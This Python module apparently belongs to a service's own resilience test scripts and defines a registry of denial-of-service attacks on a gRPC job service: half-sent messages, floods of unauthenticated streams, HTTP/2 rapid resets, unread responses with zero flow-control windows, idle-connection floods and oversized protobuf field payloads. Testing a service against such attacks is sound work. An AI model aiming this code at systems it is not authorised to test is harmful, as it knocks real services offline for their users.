"""The attacks: each opens what it is to hold, and leaves the holding to who called it."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field

import grpc
import grpc.aio

from generated.jobsvc.v1 import admin_service_pb2 as admin
from generated.jobsvc.v1 import job_pb2
from generated.jobsvc.v1 import job_service_pb2 as pb
from generated.jobsvc.v1.job_service_pb2_grpc import JobServiceStub
from scripts.attacks.wire import Wire

MIB = 1024 * 1024
STREAMS_MAX = 5_000  # on one connection
PACE = 500  # calls that are begun at once
JOB_SERVICE = "/jobsvc.v1.JobService/"
HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


@dataclass
class Target:
    """What the attacker is told: where, with which token, and which jobs it can use."""

    address: str
    token: str
    big_job_id: str  # of a payload of nearly 1 MiB
    loud_job_id: str  # that has written 8 MiB
    waiting_job_id: str  # that will not run
    wires: list[Wire] = field(default_factory=list)
    notes: dict[str, int] = field(default_factory=dict)

    async def wire(self, *, window: int = 65_535, reads: bool = True) -> Wire:
        wire = await Wire.open(self.address, window=window, reads=reads)
        self.wires.append(wire)
        return wire

    async def crowd(
        self, count: int, begin: Callable[[Wire, int], object], pause_seconds: float = 0.01
    ) -> None:
        """So many calls, on as many connections as that needs."""
        for start in range(0, count, STREAMS_MAX):
            wire = await self.wire()
            for number in range(start, min(start + STREAMS_MAX, count)):
                begin(wire, number)
                if number % PACE == PACE - 1:
                    await asyncio.sleep(pause_seconds)


async def half_message(target: Target) -> None:
    """400 health checks that stop one byte before the end of 4 MiB, without a token."""
    for _ in range(20):
        wire = await target.wire()
        for _ in range(20):
            wire.call(f"{HEALTH}Check", bytes(4 * MIB), keep_back=1)


async def half_submit(target: Target) -> None:
    """The same of SubmitJob, with a token."""
    for _ in range(20):
        wire = await target.wire()
        for _ in range(20):
            wire.call(f"{JOB_SERVICE}SubmitJob", bytes(4 * MIB), keep_back=1, token=target.token)


async def silence(target: Target) -> None:
    """20,000 SubmitJob calls that never send their request."""
    await target.crowd(
        20_000, lambda wire, _: wire.call(f"{JOB_SERVICE}SubmitJob", token=target.token)
    )


async def health_watches(target: Target) -> None:
    """20,000 Health/Watch streams, without a token."""
    await target.crowd(20_000, lambda wire, _: wire.call(f"{HEALTH}Watch", b""))


async def reflections(target: Target) -> None:
    """20,000 reflection streams that ask for nothing, without a token."""
    await target.crowd(20_000, lambda wire, _: wire.call(REFLECTION))


async def strangers(target: Target) -> None:
    """20,000 SubmitJob calls without a token that send only headers."""
    await target.crowd(20_000, lambda wire, _: wire.call(f"{JOB_SERVICE}SubmitJob"))


async def unread_watches(target: Target) -> None:
    """400 WatchJob streams that read nothing, each at another place of 8 MiB of output."""
    wire = await target.wire(window=0, reads=False)
    for number in range(400):
        request = pb.WatchJobRequest(job_id=target.loud_job_id, after_sequence=number % 200)
        wire.call(f"{JOB_SERVICE}WatchJob", request.SerializeToString(), token=target.token)


async def unread_answers(target: Target) -> None:
    """500 GetJob of a payload of 1 MiB whose answer is never read."""
    request = pb.GetJobRequest(job_id=target.big_job_id).SerializeToString()
    for _ in range(5):
        wire = await target.wire(window=0, reads=False)
        for _ in range(100):
            wire.call(f"{JOB_SERVICE}GetJob", request, token=target.token)


async def unread_small_answers(target: Target) -> None:
    """10,000 GetJob of a small job whose answer is never read."""
    request = pb.GetJobRequest(job_id=target.waiting_job_id).SerializeToString()
    for _ in range(2):
        wire = await target.wire(window=0, reads=False)
        for _ in range(5_000):
            wire.call(f"{JOB_SERVICE}GetJob", request, token=target.token)


async def idle_connections(target: Target) -> None:
    """4,000 connections that do nothing."""
    for _ in range(40):
        async with asyncio.TaskGroup() as group:
            for _ in range(100):
                group.create_task(_knock(target))


async def _knock(target: Target) -> None:
    try:
        async with asyncio.timeout(5):
            await target.wire()
    except (OSError, TimeoutError):
        target.notes["turned away"] = target.notes.get("turned away", 0) + 1


async def resets(target: Target) -> None:
    """50,000 calls that are reset as soon as they have begun, without a token."""
    for _ in range(10):
        wire = await target.wire()
        for number in range(5_000):
            wire.reset(wire.call(f"{HEALTH}Watch", b""))
            if number % PACE == PACE - 1:
                await asyncio.sleep(0.01)


async def watchers_hang_up(target: Target) -> None:
    """20,000 WatchJob streams of one job, begun at leisure, which all hang up together."""
    request = pb.WatchJobRequest(job_id=target.waiting_job_id).SerializeToString()
    await target.crowd(
        20_000,
        lambda wire, _: wire.call(f"{JOB_SERVICE}WatchJob", request, token=target.token),
        pause_seconds=0.5,
    )


async def honest_crowd(target: Target) -> None:
    """5,000 plain GetJob at once from one client, which are all to be answered."""
    metadata = (("authorization", f"Bearer {target.token}"),)
    async with grpc.aio.insecure_channel(target.address) as channel:
        stub: JobServiceStub = JobServiceStub(channel)
        request = pb.GetJobRequest(job_id=target.waiting_job_id)

        async def get() -> str:
            try:
                await stub.GetJob(request, metadata=metadata, timeout=60)  # type: ignore[misc]
            except grpc.aio.AioRpcError as error:
                return str(error.code().name)
            return "OK"

        for code in await asyncio.gather(*(get() for _ in range(5_000))):
            target.notes[code] = target.notes.get(code, 0) + 1


def _one(path: str, request: bytes) -> Callable[[Target], Awaitable[None]]:
    async def attack(target: Target) -> None:
        wire = await target.wire()
        wire.call(path, request, token=target.token)

    return attack


def _repeated(number: int, element: bytes, total: int = 4 * MIB - 64) -> bytes:
    """A JobFilter's (or a mask's) field in its raw form, as often as there is room."""
    one = bytes([number << 3 | 2, len(element)]) + element
    return one * (total // len(one))


def _nested(number: int, data: bytes) -> bytes:
    length, rest = bytearray(), len(data)
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    length.append(rest)
    return bytes([number << 3 | 2]) + bytes(length) + data


def _packed_states(value: int) -> bytes:
    """A JobFilter of nothing but states, each a byte."""
    number = job_pb2.JobFilter.DESCRIPTOR.fields_by_name["states"].number
    return _nested(number, bytes([value]) * (4 * MIB - 64))


def _list_jobs(job_filter: bytes) -> bytes:
    number = pb.ListJobsRequest.DESCRIPTOR.fields_by_name["filter"].number
    return _nested(number, job_filter)


def _update_mask() -> bytes:
    number = admin.UpdateQueueRequest.DESCRIPTOR.fields_by_name["update_mask"].number
    return _nested(number, _repeated(1, b""))


def _previews() -> bytes:
    batch = pb.SubmitJobsRequest()
    for number in range(1_000):
        batch.requests.add(job_type=f"demo.none{number}", validate_only=True)
    return batch.SerializeToString()


def _job_types() -> bytes:
    return _repeated(job_pb2.JobFilter.DESCRIPTOR.fields_by_name["job_types"].number, b"")


ATTACKS: Mapping[str, Callable[[Target], Awaitable[None]]] = {
    "half-message": half_message,
    "half-submit": half_submit,
    "silence": silence,
    "strangers": strangers,
    "health-watches": health_watches,
    "reflections": reflections,
    "unread-watches": unread_watches,
    "unread-answers": unread_answers,
    "unread-small-answers": unread_small_answers,
    "idle-connections": idle_connections,
    "resets": resets,
    "watchers-hang-up": watchers_hang_up,
    "honest-crowd": honest_crowd,
    "unknown-states": _one(f"{JOB_SERVICE}ListJobs", _list_jobs(_packed_states(99))),
    "known-states": _one(f"{JOB_SERVICE}ListJobs", _list_jobs(_packed_states(1))),
    "empty-job-types": _one(f"{JOB_SERVICE}ListJobs", _list_jobs(_job_types())),
    "empty-mask": _one("/jobsvc.v1.AdminService/UpdateQueue", _update_mask()),
    "previews": _one(f"{JOB_SERVICE}SubmitJobs", _previews()),
}
